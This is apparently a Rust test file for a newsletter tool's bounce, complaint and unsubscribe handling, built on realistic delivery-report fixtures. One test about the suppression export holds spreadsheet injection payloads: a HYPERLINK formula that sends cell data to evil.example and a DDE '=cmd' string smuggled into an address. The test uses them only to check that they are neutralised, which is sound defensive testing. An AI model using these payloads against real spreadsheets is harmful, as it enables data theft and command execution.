//! What comes back: bounces, complaints and mailed unsubscribes, in the forms real servers send
//! them (written here after Postfix, Exim, qmail, Office 365, Gmail and a provider's ARF
//! report), classified, tied to what was sent, and acted on; forgeries change nothing.

use std::collections::HashMap;
use std::io::Write;
use std::path::Path;
use std::process::Stdio;

use crate::common::servers::aiosmtpd;
use crate::common::{Run, Test, command, courant, preview_seed, write_list};
use crate::common::{contains, lacks, starts_with, words};

pub(crate) const BOUNCES: &str = "bounces@weerbaarnl.example";

/// The seed with `[bounces]` on (VERP by default).
pub(crate) fn seed_with_bounces() -> Test {
    let dir = Test::seed();
    let settings = dir.join("issues/newsletter.toml");
    let mut text = std::fs::read_to_string(&settings).unwrap();
    text.push_str(&format!("\n[bounces]\naddress = \"{BOUNCES}\"\n"));
    std::fs::write(settings, text).unwrap();
    dir
}

fn classify(dir: &Path, files: &[&str]) -> Vec<serde_json::Value> {
    let args = [&["bounces", "classify", "--json"], files].concat();
    let run = courant(dir, &args);
    assert_eq!(run.code, 0, "{}", run.stderr);
    run.stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

fn write(dir: &Path, name: &str, message: &str) {
    std::fs::write(dir.join(name), message.replace('\n', "\r\n")).unwrap();
}

#[test]
fn classify_says_what_each_kind_of_message_is() {
    let dir = Test::empty();
    let d = dir.path();
    write(
        d,
        "postfix.eml",
        &postfix_dsn(
            "bounces@x.example",
            "gone@example.org",
            "<m1@x.example>",
            "550 5.1.1 <gone@example.org>: Recipient address rejected: User unknown in virtual mailbox table",
            "5.1.1",
        ),
    );
    write(
        d,
        "full.eml",
        &postfix_dsn(
            "bounces@x.example",
            "full@example.org",
            "<m2@x.example>",
            "552 5.2.2 <full@example.org>: Mailbox full",
            "5.2.2",
        ),
    );
    write(
        d,
        "spam.eml",
        &postfix_dsn(
            "bounces@x.example",
            "kept@example.org",
            "<m3@x.example>",
            "550 5.1.1 Message rejected as spam by Content Filtering",
            "5.1.1",
        ),
    );
    write(d, "o365.eml", &office365_ndr("moved@contoso.example"));
    write(d, "exim.eml", &exim_text("old@example.net"));
    write(d, "qmail.eml", &qmail_text("busy@example.com"));
    write(
        d,
        "arf.eml",
        &arf("abuse", "reader@example.org", "<m4@x.example>"),
    );
    write(
        d,
        "optout.eml",
        &arf("opt-out", "leaver@example.org", "<m5@x.example>"),
    );
    write(d, "away.eml", AUTOREPLY);
    write(d, "vol.eml", DUTCH_FULL);
    write(d, "hello.eml", PLAIN);
    let verdicts = classify(d, &["."]);
    let by_file: HashMap<String, &serde_json::Value> = verdicts
        .iter()
        .map(|v| {
            (
                v["file"]
                    .as_str()
                    .unwrap()
                    .rsplit('/')
                    .next()
                    .unwrap()
                    .to_owned(),
                v,
            )
        })
        .collect();
    // file, kind, recipient, status ("-" for none)
    let expect = "\
        postfix.eml hard gone@example.org 5.1.1
        full.eml soft full@example.org 5.2.2
        spam.eml soft kept@example.org 5.1.1
        o365.eml hard moved@contoso.example 5.1.10
        exim.eml hard old@example.net 5.1.1
        qmail.eml soft busy@example.com 4.2.2
        arf.eml complaint reader@example.org -
        optout.eml unsubscribe leaver@example.org -
        away.eml autoreply - -
        vol.eml soft lisa@example.nl 5.0.922
        hello.eml not-bounce - -";
    for row in expect.lines() {
        let [file, kind, recipient, status] = words(row)[..] else {
            panic!("four columns: {row}")
        };
        let given = |word| Some(word).filter(|w| *w != "-");
        let v = by_file[file];
        assert_eq!(v["kind"], kind, "{file}: {v}");
        assert_eq!(v["recipient"].as_str(), given(recipient), "{file}: {v}");
        assert_eq!(v["status"].as_str(), given(status), "{file}: {v}");
    }
    assert_eq!(by_file["postfix.eml"]["reply"], 550);
    assert_eq!(by_file["full.eml"]["reason"], "mailboxfull");
    assert_eq!(by_file["spam.eml"]["reason"], "spamdetected");
    assert_eq!(by_file["vol.eml"]["reason"], "mailboxfull");
    assert_eq!(verdicts.len(), 11, "one line per recipient: {verdicts:?}");
}

/// The seed with `[bounces]`, sent to `n` readers: the folder, and the envelope sender of each
/// reader.
fn sent_with_bounces(n: usize) -> (Test, HashMap<String, String>) {
    let dir = seed_with_bounces();
    let senders = send_with_bounces(dir.path(), n);
    (dir, senders)
}

/// Sends the seed to `n` readers through aiosmtpd; the envelope sender of each, by recipient.
pub(crate) fn send_with_bounces(dir: &Path, n: usize) -> HashMap<String, String> {
    write_list(&dir.join("list.toml"), n);
    let server = aiosmtpd(dir, "mx", &[]);
    let url = server.url();
    let args = crate::common::send_args(&url, &["--rate", "unlimited"]);
    let run = courant(dir, &args);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let mut senders = HashMap::new();
    for file in server.messages() {
        let text = std::fs::read_to_string(file).unwrap();
        let field = |name: &str| {
            text.lines()
                .find_map(|l| l.strip_prefix(name))
                .unwrap()
                .to_owned()
        };
        senders.insert(field("X-Envelope-To: "), field("X-Envelope-From: "));
    }
    senders
}

/// The Message-ID courant sent to `to`, from the ledger.
fn message_id(dir: &Path, to: &str) -> String {
    let run = courant(dir, &["status", "issues/2022-12.toml", "--json"]);
    let status: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
    let row = status["recipients"]
        .as_array()
        .unwrap()
        .iter()
        .find(|r| r["email"] == to)
        .unwrap()
        .clone();
    row["message_id"].as_str().unwrap().to_owned()
}

fn read(dir: &Path, files: &[&str]) -> Run {
    courant(dir, &[&["bounces", "read"], files].concat())
}

/// `bounces read -` with `message` on standard input, as a mail system pipes it.
fn read_piped(dir: &Path, message: &str) -> (i32, String) {
    let mut child = command(dir, &["bounces", "read", "-"], &[])
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    child
        .stdin
        .take()
        .unwrap()
        .write_all(message.replace('\n', "\r\n").as_bytes())
        .unwrap();
    let out = child.wait_with_output().unwrap();
    let text =
        String::from_utf8_lossy(&out.stdout).into_owned() + &String::from_utf8_lossy(&out.stderr);
    (out.status.code().unwrap(), text)
}

#[test]
fn a_tied_bounce_suppresses_and_a_forged_one_changes_nothing() {
    let (dir, senders) = sent_with_bounces(3);
    let d = dir.path();
    for (to, from) in &senders {
        let (local, domain) = from.split_once('@').unwrap();
        let token = local
            .strip_prefix("bounces+")
            .unwrap_or_else(|| panic!("{to}: {from}"));
        assert!(
            token.len() == 20 && token.bytes().all(|b| b.is_ascii_hexdigit()),
            "{from}"
        );
        assert_eq!(domain, "weerbaarnl.example");
    }
    let verp = &senders["r1@example.org"];
    write(
        d,
        "dsn.eml",
        &postfix_dsn(
            verp,
            "r1@example.org",
            "<unrelated@elsewhere.example>",
            "550 5.1.1 <r1@example.org>: Recipient address rejected: User unknown",
            "5.1.1",
        ),
    );
    // A forgery names r2 and copies a real Message-ID, but is addressed to the bounce
    // mailbox without a token: anyone can write that.
    let real_id = message_id(d, "r2@example.org");
    write(
        d,
        "forged.eml",
        &postfix_dsn(
            BOUNCES,
            "r0@example.org",
            &real_id,
            "550 5.1.1 <r0@example.org>: User unknown",
            "5.1.1",
        ),
    );
    let run = read(d, &["dsn.eml", "forged.eml"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(contains(
        &run.stdout,
        "dsn.eml: hard r1@example.org (2022-12, verp) 5.1.1: suppressed"
    ));
    assert!(contains(
        &run.stdout,
        "forged.eml: hard r0@example.org 5.1.1: untied"
    ));
    let again = read(d, &["dsn.eml"]);
    assert!(contains(&again.stdout, "dsn.eml: read before"));
    assert!(starts_with(
        &again.stdout,
        "dsn.eml: read before\nread 0 messages"
    ));

    let preview = preview_seed(d, "list.toml");
    assert_eq!(preview.code, 0, "{}", preview.stderr);
    assert!(contains(&preview.stdout, "wrote 2 messages"));
    assert!(contains(&preview.stdout, "1 suppressed"));
    let export = courant(d, &["suppressions", "export"]);
    assert!(contains(&export.stdout, "r1@example.org,"));
    assert!(contains(&export.stdout, ",bounce,2022-12,5.1.1,"));
    assert!(
        !export.stdout.contains("r0@example.org"),
        "the forgery changed nothing: {}",
        export.stdout
    );
}

#[test]
fn complaints_and_unreadable_messages_arrive_through_a_pipe() {
    let (dir, _) = sent_with_bounces(2);
    let d = dir.path();
    let id = message_id(d, "r0@example.org");
    let (code, out) = read_piped(d, &arf("abuse", "r0@example.org", &id));
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("-: complaint r0@example.org (2022-12, message-id): suppressed"),
        "{out}"
    );
    // A complaint naming a subscriber about a message courant never sent them: nothing.
    let (code, out) = read_piped(d, &arf("abuse", "r1@example.org", "<not-ours@example.com>"));
    assert_eq!(code, 0, "{out}");
    assert!(out.contains("complaint r1@example.org: untied"), "{out}");
    // What it does not understand is kept for a person, and the mail system is told all is well.
    let (code, out) = read_piped(d, PLAIN);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("1 not understood (kept for a person)"),
        "{out}"
    );
    let list = courant(d, &["bounces", "list"]);
    assert!(contains(&list.stdout, "(not understood; kept)"));
    let status = courant(d, &["status", "issues/2022-12.toml"]);
    let came_back = "came back: 0 hard, 0 soft bounces, 1 complaints, 0 unsubscribes by mail";
    assert!(contains(&status.stdout, came_back));
    assert!(contains(&status.stdout, "ignored: 1 reports not tied"));
}

#[test]
fn a_mailed_unsubscribe_with_the_token_of_the_list_unsubscribe_header_is_honoured() {
    let dir = seed_with_bounces();
    let d = dir.path();
    write_list(&d.join("list.toml"), 2);
    let preview = preview_seed(d, "list.toml");
    assert_eq!(preview.code, 0, "{}", preview.stderr);
    let eml = std::fs::read_to_string(d.join("out/0001-r0@example.org.eml")).unwrap();
    let header = eml
        .lines()
        .find(|l| l.contains("mailto:afmelden@"))
        .unwrap()
        .to_owned();
    let subject = header
        .split("subject=")
        .nth(1)
        .unwrap()
        .trim_end_matches('>')
        .replace("%20", " ");
    let request = format!(
        "From: Reader 0 <r0@example.org>\nTo: afmelden@weerbaarnl.example\nSubject: {subject}\nMessage-ID: <req@example.org>\n\n\n"
    );
    let (code, out) = read_piped(d, &request);
    assert_eq!(code, 0, "{out}");
    assert!(
        out.contains("unsubscribe r0@example.org (token): suppressed"),
        "{out}"
    );
    // Someone else writing "afmelden r1@example.org" proves nothing.
    let forged = "From: r1@example.org\nTo: afmelden@weerbaarnl.example\nSubject: afmelden r1@example.org\n\nplease\n";
    let (_, out) = read_piped(d, forged);
    assert!(out.contains(": 0 suppressed"), "{out}");
    let export = courant(d, &["suppressions", "export"]);
    assert!(contains(&export.stdout, "r0@example.org,"));
    assert!(contains(&export.stdout, ",mailto,"));
    assert!(lacks(&export.stdout, "r1@example.org"));
}

#[test]
fn without_bounces_the_envelope_sender_is_the_from_address() {
    let dir = Test::seed();
    let senders = send_with_bounces(dir.path(), 1);
    assert_eq!(senders["r0@example.org"], "nieuwsbrief@weerbaarnl.example");
}

// The messages, in the forms real servers write them.

pub(crate) fn postfix_dsn(
    to: &str,
    recipient: &str,
    message_id: &str,
    diagnostic: &str,
    status: &str,
) -> String {
    format!(
        "Return-Path: <>
Delivered-To: {to}
Date: Thu, 15 Dec 2022 10:02:03 +0100 (CET)
From: MAILER-DAEMON@mail.example.net (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: {to}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary=\"B1.1671094923/mail.example.net\"
Message-Id: <20221215090203.B1@mail.example.net>

This is a MIME-encapsulated message.

--B1.1671094923/mail.example.net
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.example.net.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

                   The mail system

<{recipient}>: host mx.example.org[192.0.2.25] said: {diagnostic} (in reply to RCPT TO
    command)

--B1.1671094923/mail.example.net
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.example.net
X-Postfix-Queue-ID: B1
Arrival-Date: Thu, 15 Dec 2022 10:02:01 +0100 (CET)

Final-Recipient: rfc822; {recipient}
Original-Recipient: rfc822;{recipient}
Action: failed
Status: {status}
Remote-MTA: dns; mx.example.org
Diagnostic-Code: smtp; {diagnostic}

--B1.1671094923/mail.example.net
Content-Description: Undelivered Message Headers
Content-Type: text/rfc822-headers

From: WeerbaarNL <nieuwsbrief@weerbaarnl.example>
To: {recipient}
Subject: Nieuwsbrief WeerbaarNL
Message-ID: {message_id}

--B1.1671094923/mail.example.net--
"
    )
}

fn office365_ndr(recipient: &str) -> String {
    format!(
        "From: Microsoft Outlook <postmaster@contoso.example>
To: <{BOUNCES}>
Subject: Undeliverable: Nieuwsbrief WeerbaarNL
Content-Type: multipart/report; report-type=delivery-status; boundary=\"_000_\"
MIME-Version: 1.0

--_000_
Content-Type: text/plain; charset=\"us-ascii\"

Your message to {recipient} couldn't be delivered.
{recipient} wasn't found at contoso.example.

--_000_
Content-Type: message/delivery-status

Reporting-MTA: dns;AM0PR01MB1234.eurprd01.prod.outlook.com

Final-recipient: RFC822; {recipient}
Action: failed
Status: 5.1.10
Diagnostic-code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient {recipient} not found by SMTP address lookup

--_000_--
"
    )
}

fn exim_text(recipient: &str) -> String {
    format!(
        "From: Mail Delivery System <Mailer-Daemon@mx.example.net>
To: {BOUNCES}
Subject: Mail delivery failed: returning message to sender
Auto-Submitted: auto-replied

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  {recipient}
    host mx.example.net [192.0.2.7]
    SMTP error from remote mail server after RCPT TO:<{recipient}>:
    550 5.1.1 <{recipient}>: Recipient address rejected: User unknown

------ This is a copy of the message, including all the headers. ------

From: WeerbaarNL <nieuwsbrief@weerbaarnl.example>
To: someone.else@example.net
Subject: Nieuwsbrief WeerbaarNL
"
    )
}

fn qmail_text(recipient: &str) -> String {
    format!(
        "From: MAILER-DAEMON@mail.example.com
To: {BOUNCES}
Subject: failure notice

Hi. This is the qmail-send program at mail.example.com.
I'm afraid I wasn't able to deliver your message to the following addresses.
This is a permanent error; I've given up. Sorry it didn't work out.

<{recipient}>:
192.0.2.9 failed after I sent the message.
Remote host said: 452 4.2.2 <{recipient}>... Mailbox full, try again later

--- Below this line is a copy of the message.

From: WeerbaarNL <nieuwsbrief@weerbaarnl.example>
"
    )
}

fn arf(feedback_type: &str, recipient: &str, message_id: &str) -> String {
    format!(
        "From: <staff@feedback.example.com>
To: <{BOUNCES}>
Subject: FW: Nieuwsbrief WeerbaarNL
MIME-Version: 1.0
Content-Type: multipart/report; report-type=feedback-report; boundary=\"arf\"

--arf
Content-Type: text/plain; charset=\"US-ASCII\"

This is an email abuse report for an email message received from IP 192.0.2.1.

--arf
Content-Type: message/feedback-report

Feedback-Type: {feedback_type}
User-Agent: SomeGenerator/1.0
Version: 1
Original-Mail-From: <nieuwsbrief@weerbaarnl.example>
Original-Rcpt-To: <{recipient}>
Arrival-Date: Thu, 15 Dec 2022 10:02:00 +0100

--arf
Content-Type: message/rfc822

From: WeerbaarNL <nieuwsbrief@weerbaarnl.example>
To: {recipient}
Subject: Nieuwsbrief WeerbaarNL
Message-ID: {message_id}

Beste lezer,
--arf--
"
    )
}

const AUTOREPLY: &str = "From: Anne de Vries <anne.devries@example.nl>
To: nieuwsbrief@weerbaarnl.example
Subject: Automatisch antwoord: Nieuwsbrief WeerbaarNL
Auto-Submitted: auto-replied

Ik ben tot en met 2 januari afwezig en lees mijn mail daarna.
";

const PLAIN: &str = "From: Jan Jansen <jan@example.nl>
To: nieuwsbrief@weerbaarnl.example
Subject: Vraag over de nieuwsbrief

Waar vind ik het vorige nummer?
";

#[test]
fn refusals_that_point_at_the_sender_are_not_held_against_readers_and_status_says_so() {
    let (dir, senders) = sent_with_bounces(3);
    let d = dir.path();
    let blocked =
        "554 5.7.1 Service unavailable; Client host [192.0.2.1] blocked using zen.spamhaus.org";
    write(
        d,
        "blocked.eml",
        &postfix_dsn(
            &senders["r2@example.org"],
            "r2@example.org",
            "<x@elsewhere.example>",
            blocked,
            "5.7.1",
        ),
    );
    let run = read(d, &["blocked.eml"]);
    assert!(contains(
        &run.stdout,
        "soft r2@example.org (2022-12, verp) 5.7.1: none"
    ));
    let status = courant(d, &["status", "issues/2022-12.toml"]);
    assert!(contains(
        &status.stdout,
        "warning: 1 of 3 recipients (33.3 %) were refused for reasons that point at the sender, not at them; most likely the sending server's IP address is on a block list"
    ));
    let export = courant(d, &["suppressions", "export"]);
    assert!(lacks(&export.stdout, "r2@example.org"));
}

const DUTCH_FULL: &str = "From: Mail Delivery System <postmaster@mail.example.nl>
To: bounces@weerbaarnl.example
Subject: Onbestelbaar: Nieuwsbrief WeerbaarNL
Return-Path: <>

Uw bericht kon niet worden bezorgd bij de volgende ontvanger:

lisa@example.nl
    Het postvak van de ontvanger is vol. Probeer het later opnieuw.
";

/// Issue 17, item 5: staff open the export in Excel, and a forged bounce carrying a reader's
/// VERP token chooses the diagnostic text; an address may start with `=` too. No cell may
/// start as a formula, and importing the export gives back the same addresses.
#[test]
fn the_suppression_export_opens_in_a_spreadsheet_without_formulas() {
    let (dir, senders) = sent_with_bounces(2);
    let d = dir.path();
    let formula = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Klik hier\")";
    let dsn = postfix_dsn(
        &senders["r1@example.org"],
        "r1@example.org",
        "<x@y>",
        formula,
        "5.1.1",
    );
    dir.write("dsn.eml", dsn);
    assert_eq!(read(d, &["dsn.eml"]).code, 0);
    let address = "=cmd|'/Ccalc'!A0@example.nl";
    assert_eq!(courant(d, &["unsubscribe", address]).code, 0);
    let address = address.to_lowercase(); // as the ledger keeps it

    let export = courant(d, &["suppressions", "export"]);
    assert_eq!(export.code, 0, "{}", export.stderr);
    let mut reader = csv::Reader::from_reader(export.stdout.as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>())
        .collect();
    assert!(cells.contains(&format!("'{address}")), "{cells:?}");
    assert!(cells.contains(&format!("'{formula}")), "{cells:?}");
    let formulas: Vec<_> = cells
        .iter()
        .filter(|c| c.starts_with(['=', '+', '-', '@']))
        .collect();
    assert!(formulas.is_empty(), "{formulas:?}");

    let elsewhere = Test::seed().file("export.csv", &export.stdout);
    let import = elsewhere.words("suppressions import export.csv");
    assert_eq!(import.code, 0, "{}", import.stderr);
    let again = elsewhere.words("suppressions export");
    assert!(contains(&again.stdout, &format!("\n'{address},")));
}

/// The headers of one message that carries the next.
const CARRIED: &str =
    "From: MAILER-DAEMON@example.org\nMIME-Version: 1.0\nContent-Type: message/rfc822\n\n";

/// Issue 17, item 1: a message carried in a message ten thousand deep overflowed the stack
/// (exit 134), and in a mailbox every message after it stayed unread for good. It is not a
/// bounce, and the message after it is read.
#[test]
fn a_message_nested_ten_thousand_deep_is_not_a_bounce_and_the_next_is_read() {
    let (dir, senders) = sent_with_bounces(2);
    let d = dir.path();
    dir.write(
        "deep.eml",
        CARRIED.repeat(10_000) + "From: a@example.org\n\nhello\n",
    );
    let dsn = postfix_dsn(
        &senders["r1@example.org"],
        "r1@example.org",
        "<x@y>",
        "550 5.1.1 unknown",
        "5.1.1",
    );
    dir.write("dsn.eml", dsn);

    assert_eq!(classify(d, &["deep.eml"])[0]["kind"], "not-bounce");
    let run = read(d, &["deep.eml", "dsn.eml"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let read_both = [
        "deep.eml: not-bounce -: none\n",
        "dsn.eml: hard r1@example.org (2022-12",
    ];
    assert!(read_both.iter().all(|line| contains(&run.stdout, line)));
}

/// Issue 17: reports of mail systems that send no delivery-status part are read by their
/// words, each with the line its verdict rests on; a `5.1.1` whose words name the sender's
/// rate is no dead mailbox, and a host that is unknown in words alone is one. The fixtures in
/// `tests/fixtures/bounces/` were written for courant in each system's format.
#[test]
fn reports_in_the_formats_of_other_mail_systems_are_read_by_their_words() {
    // file, kind, recipient, status, reason, a part of the diagnostic
    let expect = [
        (
            "dragonfly",
            "hard",
            "anne@example.org",
            "5.1.1",
            "userunknown",
            "User unknown",
        ),
        (
            "lotus-notes",
            "hard",
            "bert@notes.example.com",
            "5.0.911",
            "userunknown",
            "not listed in Domino Directory",
        ),
        (
            "imail",
            "hard",
            "carl@imail.example.net",
            "5.0.911",
            "userunknown",
            "Unknown user:",
        ),
        (
            "mailru",
            "hard",
            "dora@nodomain.example",
            "5.0.912",
            "hostunknown",
            "Host not found",
        ),
        (
            "verizon",
            "soft",
            "erik@verizon.example",
            "5.0.922",
            "mailboxfull",
            "over quota",
        ),
        (
            "postfix-sender-rate",
            "soft",
            "fenna@example.com",
            "5.1.1",
            "speeding",
            "too many recipients this hour",
        ),
        (
            "host-in-words",
            "hard",
            "gerrit@nergens.example",
            "5.0.912",
            "hostunknown",
            "no such host",
        ),
    ];
    let dir = crate::common::root().join("tests/fixtures/bounces");
    for (file, kind, recipient, status, reason, diagnostic) in expect {
        let name = format!("{file}.eml");
        let v = &classify(&dir, &[&name])[0];
        assert_eq!(
            (&v["kind"], &v["recipient"], &v["status"], &v["reason"]),
            (
                &kind.into(),
                &recipient.into(),
                &status.into(),
                &reason.into()
            ),
            "{file}: {v}"
        );
        assert!(
            contains(v["diagnostic"].as_str().unwrap(), diagnostic),
            "{file}"
        );
    }
}

/// Issue 17: with VERP on, a server returns a bounce to the address with the token. A report
/// to the plain bounce address, tied by a real Message-ID alone, is one anyone holding the
/// message could write: its hard bounce counts as a soft one, and the reader stays.
#[test]
fn with_verp_a_message_id_alone_counts_a_hard_bounce_as_soft() {
    let (dir, _) = sent_with_bounces(3);
    let d = dir.path();
    let real_id = message_id(d, "r2@example.org");
    let dsn = postfix_dsn(
        BOUNCES,
        "r2@example.org",
        &real_id,
        "550 5.1.1 User unknown",
        "5.1.1",
    );
    dir.write("plain.eml", dsn);
    let run = read(d, &["plain.eml"]);
    assert_eq!(run.code, 0, "{}", run.stderr);
    assert!(contains(
        &run.stdout,
        "plain.eml: hard r2@example.org (2022-12, message-id) 5.1.1: counted"
    ));
    let export = courant(d, &["suppressions", "export"]);
    assert!(lacks(&export.stdout, "r2@example.org"));
}
